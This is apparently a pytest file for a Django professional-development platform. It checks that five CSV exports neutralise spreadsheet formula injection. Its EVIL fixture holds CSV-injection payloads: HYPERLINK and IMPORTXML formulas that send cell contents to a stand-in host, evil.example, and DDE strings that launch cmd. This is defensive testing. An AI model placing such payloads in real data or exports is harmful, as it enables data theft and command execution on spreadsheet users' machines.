"""Every CSV export neutralises spreadsheet formulas: a cell that would start with
=, +, -, @, a tab or a carriage return gets a leading apostrophe, so Excel and
LibreOffice show the text instead of running it.

The exports: the event roster (back office), the community roster, the PD transcript,
"download my data" and the survey report. (The events import template is fixed example
text; the impact CSV holds only counts and labels the hub writes. No export writes
XLSX: django-import-export is used for imports only.)
"""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from tests import factories
from tests.communities.factories import CommunityFactory, MembershipFactory
from trec.exports import FORMULA_STARTS
from trec.transcripts.models import Credit

EVIL = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "district": "@SUM(1+1)*cmd|' /C calc'!A0",
    "school": "-2+3+cmd|' /C calc'!A0",
    "email": "=1+1@example.org",
    "title": "\t=1+1 Reading workshop",
    "provider": "\r=1+1 Provider",
    "answer": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
}


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formulas(rows, *must_show: str) -> None:
    cells = [cell for row in rows for cell in row]
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"
    # ...and the values are there, neutralised rather than dropped.
    for value in must_show:
        assert "'" + value in cells, f"{value!r} missing from the export"


@pytest.fixture
def evil_person(db):
    district = factories.DistrictFactory(name=EVIL["district"], slug="evil-district")
    school = factories.SchoolFactory(name=EVIL["school"], district=district)
    return factories.EducatorFactory(
        first_name=EVIL["first_name"],
        last_name=EVIL["last_name"],
        email=EVIL["email"],
        district=district,
        school=school,
    )


def test_event_roster_csv(client, evil_person):
    provider = factories.ProviderFactory(name="Provider A")
    event = factories.EventFactory(provider=provider, title=EVIL["title"])
    factories.RegistrationFactory(event=event, user=evil_person)
    client.force_login(factories.ProviderStaffFactory(provider=provider))
    rows = rows_of(client.get(reverse("admin:events_event_roster_csv", args=[event.pk])))
    assert_no_formulas(rows, EVIL["email"], EVIL["district"], EVIL["school"])


def test_community_roster_csv(client, evil_person):
    facilitator = factories.EducatorFactory()
    community = CommunityFactory(facilitators=[facilitator], questions=["Why?"])
    MembershipFactory(
        community=community,
        user=evil_person,
        answers=[{"question": "Why?", "answer": EVIL["answer"]}],
    )
    client.force_login(facilitator)
    rows = rows_of(client.get(reverse("communities:roster_csv", args=[community.slug])))
    assert_no_formulas(rows, EVIL["email"], EVIL["district"], EVIL["school"], EVIL["answer"])


def test_transcript_csv(client, evil_person):
    Credit.objects.create(
        user=evil_person,
        source_kind=Credit.Source.MANUAL,
        title=EVIL["title"],
        provider_name=EVIL["provider"],
        hours=2,
        earned_on=timezone.localdate(),
        reason="Added by hand.",
    )
    client.force_login(evil_person)
    rows = rows_of(client.get(reverse("transcripts:csv")))
    assert_no_formulas(rows, EVIL["title"], EVIL["provider"])


def test_my_data_csv(client, evil_person):
    event = factories.EventFactory(title=EVIL["title"])
    factories.RegistrationFactory(event=event, user=evil_person)
    client.force_login(evil_person)
    rows = rows_of(client.get(reverse("accounts:my_data_csv")))
    assert_no_formulas(
        rows,
        EVIL["first_name"],
        EVIL["last_name"],
        EVIL["email"],
        EVIL["district"],
        EVIL["school"],
        EVIL["title"],
    )


def test_survey_report_csv(client, evil_person):
    from surveys.models import Answer, Response

    question = factories.QuestionFactory(
        survey=factories.SurveyFactory(title="Needs survey"), kind="long_text", text="Ideas?"
    )
    response = Response.objects.create(
        survey=question.survey,
        user=evil_person,
        status=Response.Status.SUBMITTED,
        submitted_on=timezone.localdate(),
        district=evil_person.district,
    )
    Answer.objects.create(response=response, question=question, text=EVIL["answer"])
    client.force_login(factories.CoordinatorFactory())
    rows = rows_of(client.get(reverse("surveys:report_csv", args=[question.survey.slug])))
    assert_no_formulas(rows, EVIL["answer"])
